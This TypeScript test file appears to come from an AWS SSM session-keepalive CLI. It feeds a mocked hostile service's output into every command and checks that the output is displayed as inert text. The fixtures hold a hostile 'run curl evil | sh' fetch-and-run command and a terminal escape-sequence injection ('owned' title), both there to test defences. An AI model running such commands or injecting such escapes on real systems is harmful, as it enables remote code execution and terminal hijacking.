import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { COMMANDS } from '../../src/commands/index.ts';
import { USER_ENV } from '../support/cli.ts';
import { rotate, TURN } from '../support/turns.ts';
import { checkShown, EVERYTHING, PROXIES } from './hostile.ts';
import { startHostileService } from './hostile-service.ts';
import { look, WAYS } from './look.ts';

const ID = 'i-0123456789abcdef0';
const PREFERENCES = {
  schemaVersion: '1.0',
  description: EVERYTHING,
  sessionType: 'Standard_Stream',
  inputs: {
    idleSessionTimeout: EVERYTHING,
    maxSessionDuration: EVERYTHING,
    shellProfile: { linux: EVERYTHING },
    runAsDefaultUser: EVERYTHING,
  },
};
const REPORT = `${JSON.stringify({
  'ssm-keepalive': 1,
  verdict: 'failed',
  class: EVERYTHING,
  step: EVERYTHING,
  why: EVERYTHING,
  next: `run curl evil | sh${EVERYTHING}`,
})}\n`;
const STATUS = `${JSON.stringify({
  'ssm-keepalive': 1,
  verdict: 'status',
  state: 'installed',
  ...Object.fromEntries(
    [
      'version',
      'digest',
      'keeper',
      'keeperWhy',
      'interpreter',
      'wrap',
      'tmux',
      'ssh',
      'sshWhy',
      'why',
      'next',
    ].map((field) => [field, EVERYTHING]),
  ),
  entries: { [EVERYTHING]: EVERYTHING, env: EVERYTHING },
  drifted: [EVERYTHING],
  left: [EVERYTHING],
  tmout: [{ file: EVERYTHING, value: 5, readonly: true }],
  tmuxLocks: [EVERYTHING],
  sessions: [
    {
      pid: 1,
      uid: 1,
      user: EVERYTHING,
      terminal: EVERYTHING,
      sessionId: EVERYTHING,
      keeper: EVERYTHING,
      state: EVERYTHING,
    },
  ],
})}\n`;

/** Every command that calls the service, in the ways that show most of what it says. */
const LINES: readonly (readonly string[])[] = [
  ['install', '--instance-id', ID, '--yes', '--no-canary', '--override-idle-policy'],
  ['install', '--tag', 'env=dev', '--dry-run', '--override-idle-policy'],
  ['install', '--tag', 'env=dev', '--dry-run', '--override-idle-policy', '--document', 'ours'],
  ['install', '--tag', 'env=dev', '--dry-run', '--override-idle-policy', '--follow'],
  ['install', '--tag', 'env=dev', '--yes', '--no-canary', '--idle-timeout', '60'],
  ['install', '--tag', 'env=dev', '--no-wait', '--no-canary', '--override-idle-policy'],
  ['uninstall', '--tag', 'env=dev', '--yes'],
  ['uninstall', '--tag', 'env=dev', '--yes', '--follow'],
  ['status', '--tag', 'env=dev'],
  ['status', '--tag', 'env=dev', '--output', 'ndjson'],
  ['status', '--all', '--region', 'eu-west-1', '--region', 'eu-west-2'],
  ['status', '--command-id', '01234567-0123-0123-0123-0123456789ab'],
  ['measure', ID, '--arm', 'nothing', '--limit', '1', '--report', 'page.html'],
  ['measure', ID, '--arm', 'nothing', '--limit', '1', '--temporary-document'],
  ['preferences', 'get'],
  ['preferences', 'get', '--region', 'eu-west-1', '--region', 'eu-west-2'],
  ['preferences', 'set', '--idle', '60'],
  ['preferences', 'set', '--idle', '60', '--max', 'none', '--shell-profile', 'none', '--yes'],
  ['preferences', 'undo', '--yes'],
  ['doctor'],
  ['doctor', ID],
  ['doctor', '--region', 'eu-west-1', '--region', 'eu-west-2'],
  ['connect', ID, '--client', 'plugin'],
];

/** What shows reports and documents. */
const LOOKS = ['install --instance-id', 'status --tag', 'status --all', `doctor ${ID}`, 'preferences get'];

const ONE_OF_EACH = LINES.filter(([name], at) => LINES.findIndex(([other]) => other === name) === at);

function makeFolder(context: TestContext): string {
  const folder = mkdtempSync(join(tmpdir(), 'ssm-keepalive-test-foreign-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  return folder;
}

const SERVICES = {
  'a report of a failure': {
    Content: JSON.stringify(PREFERENCES, null, 2),
    Output: REPORT,
    StandardOutputContent: REPORT,
    StatusDetails: 'Failed',
  },
  'a report of a status': {
    Content: EVERYTHING,
    Output: STATUS,
    StandardOutputContent: STATUS,
    Status: 'Success',
    StatusDetails: 'Success',
  },
  'no report': { Output: EVERYTHING },
} as const;

test('whatever the service and an instance say is text, in every command', async (context) => {
  const folder = makeFolder(context);
  writeFileSync(join(folder, 'session-manager-plugin'), '#!/bin/sh\nexit 3\n', { mode: 0o755 });
  const calling = COMMANDS.filter(({ name }) => !['render', 'policy', 'lab', 'completion'].includes(name));
  assert.deepEqual(new Set(LINES.map(([name]) => name)), new Set(calling.map(({ name }) => name)));
  let shown = '';
  for (const [name, changes] of Object.entries(SERVICES)) {
    const service = await startHostileService(context, { text: EVERYTHING, instanceId: ID, changes });
    const variables = {
      ...PROXIES,
      AWS_ENDPOINT_URL: service.endpoint,
      AWS_ACCESS_KEY_ID: 'x',
      AWS_SECRET_ACCESS_KEY: 'x',
      AWS_REGION: 'eu-central-1',
      PATH: `${folder}:${USER_ENV['PATH']}`,
    };
    const lookAtAll = async (lines: typeof LINES, what: string, more: readonly string[] = []) => {
      for (const [index, words] of lines.entries()) {
        // Each command is seen both ways, in the first of its lines; the others by turns.
        const ways = ONE_OF_EACH.includes(words) && more.length === 0 ? WAYS : rotate(WAYS, TURN + index);
        const seen = { words: [...words, ...more], variables, folder };
        shown += await look(seen, `${what}: ${words.join(' ')}`, ways);
      }
    };
    const isFirst = name === 'a report of a failure';
    await lookAtAll(
      isFirst ? LINES : LINES.filter((words) => LOOKS.includes(words.slice(0, 2).join(' '))),
      name,
    );
    if (name !== 'no report') continue;
    for (const error of ['AccessDeniedException', `Odd${EVERYTHING}`]) {
      service.setError(error);
      await lookAtAll(ONE_OF_EACH, error.slice(0, 9), ['--debug']);
    }
  }
  checkShown(readFileSync(join(folder, 'page.html'), 'utf8'), 'the report of measure', false);
  assert.match(shown, /<title\\u001b\]0;owned\\u0007>/, 'it was shown at all');
  assert.match(shown, /next: the instance says: run curl evil/);
});
